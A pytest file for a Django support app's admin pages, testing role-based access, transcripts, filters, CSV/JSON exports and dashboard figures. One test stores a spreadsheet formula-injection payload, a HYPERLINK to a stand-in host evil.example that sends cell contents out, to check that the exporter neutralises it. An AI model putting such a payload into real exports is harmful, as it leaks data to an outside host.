"""The admin pages through the test client: who sees what, transcripts, exports and the dashboard."""

import csv
import io
import json

import pytest
from django.test import Client

from agents import exports
from chat import actions
from chat.models import SenderKind

from .helpers import make_user, queued_conversation

pytestmark = pytest.mark.django_db(transaction=True)


def client_for(user, language="en"):
    client = Client(headers={"accept-language": language})
    client.force_login(user)
    return client


def handled_conversation(agent, text="my order is late", score=4):
    """Return a conversation an agent took, answered, closed, and the customer rated."""
    conversation = actions.take_over(conversation=queued_conversation(text), agent=agent, agent_name=agent.username)
    actions.send_agent_reply(conversation=conversation, agent=agent, text="Sorry, checking now", agent_name=agent.username)
    actions.add_private_note(conversation=conversation, agent=agent, text="courier delay")
    actions.close_conversation(conversation=conversation, actor=SenderKind.AGENT, actor_user=agent)
    if score:
        actions.rate_conversation(customer=conversation.customer, score=score)
    return conversation


@pytest.fixture
def people():
    return {
        "agent": make_user("agent", role="Agents"),
        "other_agent": make_user("other", role="Agents"),
        "manager": make_user("manager", role="Managers"),
        "outsider": make_user("outsider", staff=True),
        "customer_like": make_user("nobody", staff=False),
    }


def test_console_page_is_for_agents_only(people):
    assert client_for(people["agent"]).get("/admin/console/").status_code == 200
    assert client_for(people["manager"]).get("/admin/console/").status_code == 200
    assert client_for(people["outsider"]).get("/admin/console/").status_code == 403
    response = client_for(people["customer_like"]).get("/admin/console/")
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
    assert Client().get("/admin/console/").status_code == 302


def test_dashboard_shows_for_managers_and_not_for_agents(people):
    handled_conversation(people["agent"], score=5)
    page = client_for(people["manager"]).get("/admin/").content.decode()
    assert 'id="dashboard"' in page and "<svg" in page and 'id="avg-rating">5.0<' in page
    page = client_for(people["agent"]).get("/admin/").content.decode()
    assert 'id="dashboard"' not in page and "Open the console" in page
    assert client_for(people["outsider"]).get("/admin/").status_code == 200


def test_agents_see_their_own_transcripts_and_managers_all(people):
    mine = handled_conversation(people["agent"])
    theirs = handled_conversation(people["other_agent"])
    url = "/admin/agents/transcript/"
    agent_page = client_for(people["agent"]).get(url)
    assert agent_page.status_code == 200
    assert list(agent_page.context["cl"].queryset.values_list("pk", flat=True)) == [mine.pk]
    assert client_for(people["agent"]).get(f"{url}{theirs.pk}/change/").status_code == 302  # not found for them
    manager_page = client_for(people["manager"]).get(url)
    assert {c.pk for c in manager_page.context["cl"].queryset} == {mine.pk, theirs.pk}
    assert client_for(people["outsider"]).get(url).status_code == 403


def test_transcript_page_shows_messages_notes_and_rating(people):
    conversation = handled_conversation(people["agent"], score=3)
    page = client_for(people["manager"]).get(f"/admin/agents/transcript/{conversation.pk}/change/").content.decode()
    assert "my order is late" in page and "Sorry, checking now" in page and "courier delay" in page
    assert "Private note" in page and "@media print" not in page and "transcript.css" in page


def test_list_columns_filters_and_message_search(people):
    slow = handled_conversation(people["agent"], text="refund please", score=2)
    handled_conversation(people["agent"], text="where is it", score=5)
    client = client_for(people["manager"])
    page = client.get("/admin/agents/transcript/", {"q": "refund"})
    assert [c.pk for c in page.context["cl"].result_list] == [slow.pk]
    row = page.context["cl"].result_list[0]
    assert row.wait_time is not None and row.first_response is not None and row.duration is not None
    assert [c.pk for c in client.get("/admin/agents/transcript/", {"rating": "2"}).context["cl"].result_list] == [slow.pk]


def test_list_needs_a_fixed_number_of_queries(people, django_assert_max_num_queries):
    for _ in range(5):
        handled_conversation(people["agent"])
    client = client_for(people["manager"])
    with django_assert_max_num_queries(20):
        client.get("/admin/agents/transcript/")


def _content(response):
    """The body as text; a CSV's byte order mark is checked and dropped."""
    assert response.streaming
    body = b"".join(response.streaming_content)
    if response["Content-Type"].startswith("text/csv"):
        assert body.startswith("\ufeff".encode())
    return body.decode("utf-8-sig")


def test_exports_stream_one_row_per_conversation_and_full_transcripts(people):
    first = handled_conversation(people["agent"], score=5)
    second = handled_conversation(people["other_agent"], text="second one", score=None)
    client = client_for(people["manager"])
    rows = list(csv.DictReader(io.StringIO(_content(client.get("/admin/agents/transcript/export.csv")))))
    assert [int(r["id"]) for r in rows] == [first.pk, second.pk]
    assert rows[0]["rating"] == "5" and rows[1]["rating"] == "" and rows[0]["agent"] == "agent"
    assert rows[0]["first_response_s"] != "" and rows[0]["duration_s"] != ""
    data = json.loads(_content(client.get("/admin/agents/transcript/export.json")))
    assert [c["id"] for c in data["conversations"]] == [first.pk, second.pk]
    texts = [m["text"] for m in data["conversations"][1]["messages"]]
    assert texts == ["second one", "Sorry, checking now", "courier delay"]
    assert data["conversations"][1]["messages"][2]["note"] is True
    # Filters of the list apply to the export.
    filtered = list(csv.DictReader(io.StringIO(_content(client.get("/admin/agents/transcript/export.csv", {"q": "second"})))))
    assert [int(r["id"]) for r in filtered] == [second.pk]


def test_csv_export_neutralises_formulas_and_opens_in_excel_as_utf8(people):
    conversation = handled_conversation(people["agent"], score=1)
    comment = '=HYPERLINK("http://evil.example/?"&A1,"退款 refund")'
    type(conversation).objects.filter(pk=conversation.pk).update(rating_comment=comment)
    for start in ("-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "＝1+1"):
        assert exports.safe_cell(start) == "'" + start
    assert exports.safe_cell("fine = ok") == "fine = ok" and exports.safe_cell(-5) == -5
    raw = b"".join(client_for(people["manager"]).get("/admin/agents/transcript/export.csv").streaming_content)
    assert raw.startswith(b"\xef\xbb\xbfid,")
    row = next(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert row["rating_comment"] == "'" + comment and "退款" in row["rating_comment"]
    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())


def test_exports_are_for_managers_only(people):
    assert client_for(people["agent"]).get("/admin/agents/transcript/export.csv").status_code == 403
    assert client_for(people["outsider"]).get("/admin/agents/transcript/export.json").status_code == 403


def test_tags_are_edited_on_the_transcript_and_filter_the_list(people):
    from agents.models import Tag

    conversation = handled_conversation(people["agent"])
    Tag.objects.create(name="billing").conversations.add(conversation)
    page = client_for(people["manager"]).get("/admin/agents/transcript/", {"tags__id__exact": Tag.objects.get().pk})
    assert [c.pk for c in page.context["cl"].result_list] == [conversation.pk]
    assert "billing" in page.content.decode()


def test_superuser_sees_everything(people):
    root = make_user("root", superuser=True)
    client = client_for(root)
    for url in ("/admin/console/", "/admin/agents/transcript/", "/admin/agents/cannedresponse/", "/admin/agents/agentprofile/"):
        assert client.get(url).status_code == 200, url
    assert 'id="dashboard"' in client.get("/admin/").content.decode()


def test_dashboard_figures_count_bot_solved_and_queue(people):
    from agents import reports

    from .helpers import customer_conversation

    handled_conversation(people["agent"], score=4)
    solved = customer_conversation("opening hours?")
    actions.close_conversation(conversation=solved, actor=SenderKind.BOT)
    queued_conversation()
    figures = reports.dashboard()
    assert figures["closed_today"] == 2 and figures["bot_solved_share"] == 50
    assert figures["queue_length"] == 1 and figures["today"] == 3 and figures["avg_rating"] == 4
    assert figures["customers_online"] == 3 and sum(opened for _, opened, _ in figures["hourly"]) == 3


def test_the_transcript_timeline_interleaves_messages_and_events_in_the_readers_language(people):
    conversation = handled_conversation(people["agent"])
    page = client_for(people["manager"]).get(f"/admin/agents/transcript/{conversation.pk}/change/").content.decode()
    assert page.index("my order is late") < page.index("took over") < page.index("Sorry, checking now")
    assert page.index("Sorry, checking now") < page.index("Closed by") < page.index("Rated 4 / 5")
    assert f"<h1>Conversation #{conversation.pk}</h1>" in page
    chinese = client_for(people["manager"], language="zh-CN").get(f"/admin/agents/transcript/{conversation.pk}/change/")
    assert "评分 4 / 5" in chinese.content.decode() and "已接入" in chinese.content.decode()


def test_the_timeline_shows_each_rating_with_its_own_comment(people):
    conversation = handled_conversation(people["agent"], score=2)
    actions.rate_conversation(customer=conversation.customer, score=5, comment="called back, all fixed")
    page = client_for(people["manager"]).get(f"/admin/agents/transcript/{conversation.pk}/change/").content.decode()
    assert page.index("Rated 2 / 5<") < page.index("Rated 5 / 5: called back, all fixed")
    chinese = client_for(people["manager"], language="zh-CN").get(f"/admin/agents/transcript/{conversation.pk}/change/")
    assert "评分 5 / 5：called back, all fixed" in chinese.content.decode()
